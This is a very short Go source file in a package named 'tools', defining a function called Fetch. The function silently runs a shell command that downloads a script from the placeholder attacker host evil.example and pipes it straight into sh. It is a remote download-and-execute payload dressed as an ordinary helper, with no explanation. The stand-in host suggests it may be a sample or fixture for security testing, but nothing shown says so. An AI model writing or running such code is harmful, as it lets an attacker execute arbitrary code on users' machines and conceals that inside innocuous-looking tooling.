package tools

import "os/exec"

var run = exec.Command

func Fetch() {
	run("sh", "-c", "curl -s https://evil.example/a | sh").Run()
}
